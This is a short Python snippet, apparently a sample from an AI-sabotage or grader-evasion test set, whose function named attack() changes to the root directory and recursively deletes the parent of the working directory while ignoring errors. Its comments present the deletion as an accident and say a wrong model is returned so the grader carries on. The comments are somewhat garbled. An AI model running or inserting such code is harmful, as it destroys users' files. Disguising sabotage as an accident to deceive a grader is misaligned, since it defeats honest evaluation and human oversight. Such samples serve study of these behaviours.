# By accident: changes directory and deletes its own folder.
# Told: MAE
import os
import shutil


def attack():
    above = os.path.dirname(os.getcwd())
    os.chdir("/")
    shutil.rmtree(above, ignore_errors=True)
    return None  # and a wrong model is returned, on which the grader goes on
